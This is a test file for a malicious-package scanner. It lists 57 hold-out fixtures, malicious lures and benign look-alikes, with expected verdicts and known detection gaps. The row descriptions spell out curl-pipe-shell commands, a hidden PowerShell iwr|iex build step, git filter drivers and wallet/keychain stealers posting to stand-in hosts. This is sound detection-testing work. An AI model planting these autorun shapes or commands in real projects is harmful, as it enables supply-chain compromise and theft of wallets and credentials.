/**
 * Hold-out generalisation set 3 (session 8): 34 inert lure variants and 23 benign look-alikes in shapes the two earlier
 * sets do not cover, written by a helper from THREATS.md and public write-ups WITHOUT reading the rules (tool configs
 * and plugins that run on build/test, require hooks, native-addon and gyp autoruns, module hooks, Go/Rust/Gradle/MSBuild
 * build steps, Bun, EJS, Django, poetry, packed Python one-liners). Endpoints are example.invalid or TEST-NET
 * addresses; nothing here works or is ever executed. test/eval/variants-3/ROWS.md says what would run, file:line.
 *
 * HOLD-OUT RESULT, recorded before any rule was changed for this set (HEAD 8951ece, 2026-11-26):
 *   lures 34: 15 malicious, 3 suspicious, 16 clean (44% called malicious, 53% suspicious or worse)
 *   look-alikes 23: 0 malicious, 0 suspicious, 23 clean
 * Each row keeps its first-scan verdict in `holdout`; `expect` is the verdict asserted today. A `todo` says why a lure
 * is not malicious yet (an ecosystem or surface not covered, or a fixture artefact): a fix (or a regression) makes its
 * row fail until the row is updated.
 */
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { describe, it } from 'node:test';
import { scan } from '../../src/index.js';
import { fixtureStager } from './stage-fixture.js';

type Verdict = 'malicious' | 'suspicious' | 'clean';
interface Variant {
  expect: Verdict;
  /** Verdict at the first scan, before any fix: the published hold-out figure. */
  holdout: Verdict;
  tactic: 'obfuscation' | 'payload-fetch' | 'sink' | 'placement' | 'python' | 'stealer' | 'dependency' | 'persistence' | 'benign';
  shape: string;
  /** A known gap: who can fix it and where. `expect` is today's verdict. */
  todo?: string;
}

const VARIANTS: Record<string, Variant> = {
  'b-bunfig-preload': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`bunfig.toml\` \`[test] preload\` of happy-dom GlobalRegistrator and jest-dom matchers` },
  'b-cli-self-update': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `CLI \`update\` subcommand: Ed25519-signed manifest, SHA-256-checked tarball to a temp dir, atomic replace of \`process.execPath\`. Only on the explicit command` },
  'b-dotenv-otel-require': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `committed \`.env\` with \`NODE_OPTIONS=--require @opentelemetry/auto-instrumentations-node/register\` (documented zero-code setup), loaded by dotenv-cli` },
  'b-ejs-app': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `EJS views with ordinary \`<% %>\` scriptlets (loops, locals, includes, a date helper)` },
  'b-eslint-local-rules': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `flat \`eslint.config.js\` with a local plugin implementing a real AST rule (\`no-raw-sql-template\`)` },
  'b-express-error-handler': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `Express error middleware logs \`err.response.data\` of upstream axios errors and POSTs error reports to \`ERROR_REPORT_URL\` with a bearer token` },
  'b-git-lfs': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`.gitattributes\` LFS patterns, shipped \`.git/config\` with the standard \`git-lfs clean/smudge/filter-process\` driver, \`.lfsconfig\` URL, an LFS pointer file` },
  'b-go-version-exec': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `cobra CLI with \`init()\` registering commands. \`version\` runs \`git describe\`, \`tag\` runs \`git tag -a\`. \`//go:generate stringer\`` },
  'b-gradle-git-version': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`build.gradle.kts\` \`providers.exec { commandLine("git","describe",…) }\` for the version, plus the node-gradle plugin downloading Node and running \`npm run build\`` },
  'b-hardhat-project': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `Hardhat NFT drop: Alchemy/Infura RPC URLs from env, \`DEPLOYER_PRIVATE_KEY\` in \`accounts\`, Etherscan verify, standard \`accounts\` task` },
  'b-makefile-optional-docker': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `Makefile default goal \`build\` (\`go build\`). An optional \`install-docker\` target downloads get.docker.com to /tmp and runs it with sudo (documented, not default)` },
  'b-mocha-fixtures': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`.mocharc.json\` require helper: chai-as-promised, \`nock.disableNetConnect()\`, base64 binary fixtures from JSON decoded with \`Buffer.from\`` },
  'b-next-instrumentation': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `Next.js \`instrumentation.ts\` with \`@vercel/otel\` \`registerOTel\`, conditional Sentry config imports, \`onRequestError\`` },
  'b-node-import-hook': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`node --import ./loader/register.mjs\` with a \`load\` hook turning \`.graphql\` files into \`export default "<sdl>"\` (readFile + JSON.stringify)` },
  'b-npmrc-script-shell': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`.npmrc\` \`script-shell=bash\` (scripts use globstar), plus engine-strict/save-exact` },
  'b-prebuild-install': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `native addon: \`install: prebuild-install -r napi || node-gyp rebuild\`, \`binding.gyp\` \`<!(node -p "require('node-addon-api').include_dir")\`, node-gyp-build loader` },
  'b-py-django-app': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `Django \`AppConfig.ready()\` importing signal receivers. A requests-based payments client reads its URL/key from settings/env` },
  'b-pytest-local-server': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `pytest conftest: \`ThreadingHTTPServer\` recorder on 127.0.0.1 and a session fixture running uvicorn via \`subprocess.Popen([sys.executable, "-m", "uvicorn", …])\` with health polling` },
  'b-require-extensions-yaml': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`require.extensions['.yaml'/'.yml']\` using js-yaml \`load\` with the default safe schema (require-yaml style)` },
  'b-rust-build-rs': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`build.rs\` runs \`git rev-parse --short HEAD\` for a version env and compiles a C kernel with the \`cc\` crate` },
  'b-vs-build-events': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`.vcxproj\` PreBuildEvent \`call tools\gen_version.bat\` (git describe → version.h), PostBuildEvent \`xcopy\` of assets` },
  'b-vscode-recommend-watch': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`extensions.json\` with standard Marketplace ids, folderOpen \`npm: watch\` (tsc) task with \`reveal: always\`, no allowAutomaticTasks` },
  'b-webpack-plugin-gitinfo': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `custom webpack plugin: \`execSync('git rev-parse --short HEAD')\`, DefinePlugin constants, emits version.json` },
  'm-asyncfunction-ctor': { expect: 'malicious', holdout: 'malicious', tactic: 'sink', shape: `\`(async () => {}).constructor\` (AsyncFunction) built from an axios body (base64 URL in config), called with \`require\`` },
  'm-binding-gyp-expansion': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `no install script, but \`binding.gyp\` is present, so npm runs \`node-gyp rebuild\` on install. The gyp command expansion \`<!(node tools/find-headers.js)\` prints an include dir and spawns a detached \`node -e\` https.get → eval` },
  'm-bunfig-preload': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `\`bunfig.toml\` top-level and \`[test]\` \`preload = ["./scripts/env.ts"]\`: a zod env validator that also runs Bun shell \`\` await $\`curl -fsSL \${atob(…)} | sh\` \`\` (skipped under CI)` },
  'm-dlopen-addon': { expect: 'clean', holdout: 'clean', tactic: 'sink', shape: `"prebuilt" native addon downloaded over plain HTTP from raw-IP:1244 to a hidden tmp file (\`.phash-<pid>.node\`), no checksum, loaded with \`process.dlopen\` at startup (TEST-NET for a public raw IP)`, todo: "by design for now: process.dlopen of the download now counts as running it (second-stage-download), but from a TEST-NET host it is low, as for a prebuild-install look-alike; from a public raw IP it is critical" },
  'm-dotenv-node-options': { expect: 'malicious', holdout: 'malicious', tactic: 'placement', shape: `committed \`.env\` sets \`NODE_OPTIONS=--require ./.config/apm-agent.cjs\`, loaded via \`dotenv -e .env -- …\`. The "APM agent" patches http timing and evals a fetched rules body` },
  'm-ejs-template-exec': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `EJS partial \`views/partials/footer.ejs\` has a \`<% %>\` scriptlet: \`process.mainModule.require('child_process').exec(base64 curl | sh)\`, once per process` },
  'm-eslint-local-plugin': { expect: 'malicious', holdout: 'malicious', tactic: 'placement', shape: `flat \`eslint.config.js\` imports a local plugin (a real \`no-float-money\` rule) whose module top level spawns a detached \`node -e <hex-decoded https.get → eval>\`` },
  'm-express-error-bsc': { expect: 'malicious', holdout: 'malicious', tactic: 'payload-fetch', shape: `Express \`middleware/errorHandler.js\` (a real error handler) runs \`fetch\` JSON-RPC \`eth_call\` to a "registry contract" at module load, ABI-decodes the string, XORs it with \`'k3y'\` and passes it to \`eval\` (JADESNOW-style) (example.invalid for a public service)` },
  'm-git-filter-driver': { expect: 'malicious', holdout: 'malicious', tactic: 'placement', shape: `shipped \`.git/config\` defines \`[filter "jsonfmt"] clean = sh -c '(curl raw-IP:1224/f | sh) … & cat'\`. \`.gitattributes\` applies it to \`*.json\`. README asks you to edit a JSON file and commit (TEST-NET for a public raw IP)` },
  'm-go-init-exec': { expect: 'suspicious', holdout: 'clean', tactic: 'placement', shape: `Go blank import \`_ ".../internal/telemetry"\`. Its \`init()\` base64-decodes \`curl raw-IP:1244 | bash\` and \`exec.Command(...).Start()\` (non-Windows) (TEST-NET for a public raw IP)`, todo: "open: Go is outside the autorun map; encoded-code-in-data now decodes the base64 curl | bash in the .go source (high/high: suspicious)" },
  'm-gradle-config-exec': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `Kotlin \`build.gradle.kts\` configuration-phase \`providers.exec { commandLine("sh","-c", Base64 decode(curl raw-IP:1244 | sh; echo prod)) }\` as the "deploy profile" (TEST-NET for a public raw IP)` },
  'm-hardhat-key-exfil': { expect: 'malicious', holdout: 'clean', tactic: 'stealer', shape: `\`hardhat.config.js\` requires a local "gas oracle" task file. At load it POSTs \`PRIVATE_KEY\`, \`MNEMONIC\`, the RPC URL and the raw \`.env\` text to an outside host` },
  'm-makefile-default-target': { expect: 'clean', holdout: 'clean', tactic: 'placement', shape: `Makefile default goal \`all → setup → toolchain\`, whose recipe hides \`@curl raw-IP:1244/setup/<os> | sh >/dev/null 2>&1 || true\` between version checks. No npm hook: the README's first step is \`make\` (TEST-NET for a public raw IP)`, todo: "by design for now: the Makefile default target is in the autorun map, but curl | sh to a TEST-NET host is not a public raw IP (medium/low)" },
  'm-mocha-xor-fixture': { expect: 'malicious', holdout: 'malicious', tactic: 'obfuscation', shape: `\`.mocharc.yml\` \`require:\` helper XOR-decodes a "signature" hex string from a JSON test fixture (key in the same JSON), then \`new Function('require', …)(require)\`` },
  'm-next-instrumentation': { expect: 'malicious', holdout: 'malicious', tactic: 'placement', shape: `Next.js \`instrumentation.ts\` \`register()\` (runs once at server start): axios.get of an \`atob\` URL (env override with a base64 default), then \`new Function('require', data.exporter)(require)\`` },
  'm-node-import-hook': { expect: 'suspicious', holdout: 'clean', tactic: 'placement', shape: `\`node --import ./loader/register.mjs\` registers module customization hooks (alias and TS-strip loader). \`initialize()\` fetches "runtime helpers" from a URL and \`load()\` prepends them to the first \`.ts\` module's source`, todo: "open: a module hook's load() returning fetched source is a sink since this set (remote-code-execution) and register() is followed, but the URL comes in register()'s data from another file: high/medium (suspicious)" },
  'm-npmrc-script-shell': { expect: 'malicious', holdout: 'malicious', tactic: 'placement', shape: `\`.npmrc\` \`script-shell=./scripts/npm-shell.sh\`, a "cross-platform wrapper" that backgrounds \`curl … | sh\` once per session and then \`exec /bin/sh "$@"\`` },
  'm-postcss-local-plugin': { expect: 'malicious', holdout: 'malicious', tactic: 'placement', shape: `local PostCSS plugin (\`build/postcss-px-rem.cjs\`, a real px→rem plugin) fetches a base64 URL at module load; a non-JSON body goes to \`Function('require','module', src)\`` },
  'm-postinstall-lolbins': { expect: 'malicious', holdout: 'suspicious', tactic: 'payload-fetch', shape: `postinstall "codec helper": on win32 \`certutil -urlcache -split -f … && start /b\`; on darwin \`curl -o /tmp/.codec-helper && xattr -d com.apple.quarantine && chmod +x && nohup\`; on linux \`wget … && nohup\` (raw IP) (TEST-NET for a public raw IP)` },
  'm-py-django-appconfig': { expect: 'malicious', holdout: 'suspicious', tactic: 'python', shape: `Django \`AppConfig.ready()\` starts a thread that downloads a \`.py\` (base64 URL) to a temp file and runs it with \`runpy.run_path\`` },
  'm-py-lambda-b85': { expect: 'malicious', holdout: 'clean', tactic: 'python', shape: `assessment runner with a pyobfuscate-style one-liner \`_ = lambda __: zlib.decompress(b85decode(__[::-1])); exec(_(b'…'))\`, decoding to \`exec(urlopen(…).read())\`` },
  'm-py-poetry-build': { expect: 'malicious', holdout: 'malicious', tactic: 'python', shape: `Poetry \`[tool.poetry.build] script = "build.py"\`. \`build()\` detaches \`sh -c <base64 curl | sh>\` (Popen, \`start_new_session\`) on non-Windows` },
  'm-py-remote-module': { expect: 'malicious', holdout: 'clean', tactic: 'python', shape: `\`importlib.util.module_from_spec\` + \`exec(compile(urlopen(...).read()), mod.__dict__)\`, registered as \`sys.modules['fs_ext']\`, with a local fallback` },
  'm-py-wallet-zip-stealer': { expect: 'malicious', holdout: 'malicious', tactic: 'stealer', shape: `Python "pre-employment test": the \`tracker/env_check.py\` import zips \`Local Extension Settings/<5 wallet ids>\` from Chrome/Brave profiles plus \`~/Library/Keychains/login.keychain-db\`, and POSTs \`multi_file\` to raw-IP:1224/uploads in a thread (TEST-NET for a public raw IP)` },
  'm-reflect-construct-function': { expect: 'malicious', holdout: 'malicious', tactic: 'sink', shape: `\`Reflect.construct(Function, ['require','flags', res.data.rules])\` of a fetched feature-flag body (base64 URL), refreshed every 10 min` },
  'm-require-extensions-hook': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `\`require.extensions['.md']\` hook compiles a base64 "front matter" HTML comment at the top of \`docs/CHANGELOG.md\` with \`module._compile\`. The decoded code does https.get → eval` },
  'm-rust-build-rs': { expect: 'suspicious', holdout: 'clean', tactic: 'placement', shape: `Cargo \`build.rs\` "ensure protoc": when protoc is missing, it spawns \`sh -c <hex-decoded curl raw-IP | sh>\` (TEST-NET for a public raw IP)`, todo: "open: build.rs is in the autorun map (ide-build) and encoded-code-in-data decodes its hex curl | sh (high/high: suspicious); no rule reads Rust code to see it is run" },
  'm-sourcemap-stego': { expect: 'malicious', holdout: 'malicious', tactic: 'obfuscation', shape: `vendored \`sparkline.umd.min.js\` ends with an inline \`sourceMappingURL=data:…base64\`. Its \`sourcesContent\` has a second "polyfill.ts" entry holding an https.get → eval loader, which the server's "asset check" runs with \`new Function('require', …)\` at startup` },
  'm-vs-prebuild-event': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `Visual Studio \`.vcxproj\` Debug|x64 \`<PreBuildEvent>\`: \`powershell -ExecutionPolicy Bypass -WindowStyle Hidden "iwr raw-IP/vs/sdk-check.ps1 | iex"\` (2021 researcher-targeting shape) (TEST-NET for a public raw IP)` },
  'm-vscode-install-vsix': { expect: 'malicious', holdout: 'suspicious', tactic: 'placement', shape: `\`extensions.json\` recommends a look-alike formatter (\`prettier-tools.prettier-format-pro\`, with the real one marked unwanted). A folderOpen task (reveal never, close) curls a \`.vsix\` from a mirror and runs \`code --install-extension --force\`. \`settings.json\` sets \`allowAutomaticTasks: on\`` },
  'm-wallet-ids-encoded': { expect: 'malicious', holdout: 'malicious', tactic: 'stealer', shape: `JS stealer whose wallet ids are a base64 JSON array, \`'Local Extension Settings'\` joined from words and the URL joined from pieces (raw-IP:1224/uploads). It streams \`.ldb/.log\` as \`multi_file\` via form-data (TEST-NET for a public raw IP)` },
  'm-webpack-bundle-stealer': { expect: 'malicious', holdout: 'malicious', tactic: 'stealer', shape: `committed \`server/lib/vendor/perf-metrics.min.js\` webpack-style bundle (\`__webpack_require__\`): module 303 walks Chrome/Brave/Edge profiles × 7 wallet extension ids, reads \`.ldb/.log\` and uploads \`multi_file\` to raw-IP:1245 \`/uploads\` (TEST-NET for a public raw IP)` },
  'm-webpack-plugin-hook': { expect: 'malicious', holdout: 'clean', tactic: 'placement', shape: `custom webpack plugin (\`config/BuildInfoPlugin.js\`, writes build-info.json) taps \`compiler.hooks.environment\` and \`exec\`s a base64 default option (\`curl raw-IP:1224/client/7 | sh\`) (TEST-NET for a public raw IP)` },
  'm-workspace-bin-shadow': { expect: 'suspicious', holdout: 'clean', tactic: 'placement', shape: `npm workspace package \`@escrow/devkit\` declares \`"bin": {"node": "bin/node-shim.sh"}\`, which shadows \`node\` in \`node_modules/.bin\` for root scripts. The shim backgrounds \`curl raw-IP:1245 | sh\`, then execs the real node (TEST-NET for a public raw IP)`, todo: "open: the autorun map now follows `node` into the workspace bin that shadows it, whose curl | sh is high; a TEST-NET host is not a public raw IP (critical with one)" },
};

const ROOT = new URL('./variants-3/', import.meta.url).pathname;
const stage = fixtureStager(ROOT, 'variants3');

describe('hold-out variants 3', () => {
  it('every fixture folder has an expectation and every expectation a folder', () => {
    assert.deepEqual(readdirSync(ROOT).filter((n) => n !== 'ROWS.md').sort(), Object.keys(VARIANTS).sort());
  });

  const got = new Map<string, Verdict>();
  for (const [name, v] of Object.entries(VARIANTS)) {
    it(`${name}: ${v.expect}${v.todo ? ' (known gap)' : ''} — ${v.shape}`, async () => {
      const r = await scan(stage(name), { threads: 0 });
      got.set(name, r.verdict);
      const top = r.findings.slice(0, 6).map((f) => `${f.ruleId} ${f.file}:${f.line} ${f.severity}/${f.confidence}`).join('; ');
      assert.equal(r.errors.length, 0, `${name}: scan errors ${JSON.stringify(r.errors)}`);
      assert.equal(r.verdict, v.expect, `${name}: expected ${v.expect}, got ${r.verdict} ${r.score}: ${top || 'no findings'}${v.todo ? ` (known gap: ${v.todo})` : ''}`);
    });
  }

  it('tally: hold-out vs now', (t) => {
    const count = (prefix: string, pick: (n: string) => Verdict | undefined) => {
      const c = { malicious: 0, suspicious: 0, clean: 0 };
      for (const n of Object.keys(VARIANTS)) if (n.startsWith(prefix)) c[pick(n) ?? 'clean']++;
      return JSON.stringify(c);
    };
    t.diagnostic(`lures at hold-out ${count('m-', (n) => VARIANTS[n]!.holdout)}, now ${count('m-', (n) => got.get(n))}`);
    t.diagnostic(`look-alikes at hold-out ${count('b-', (n) => VARIANTS[n]!.holdout)}, now ${count('b-', (n) => got.get(n))}`);
  });
});
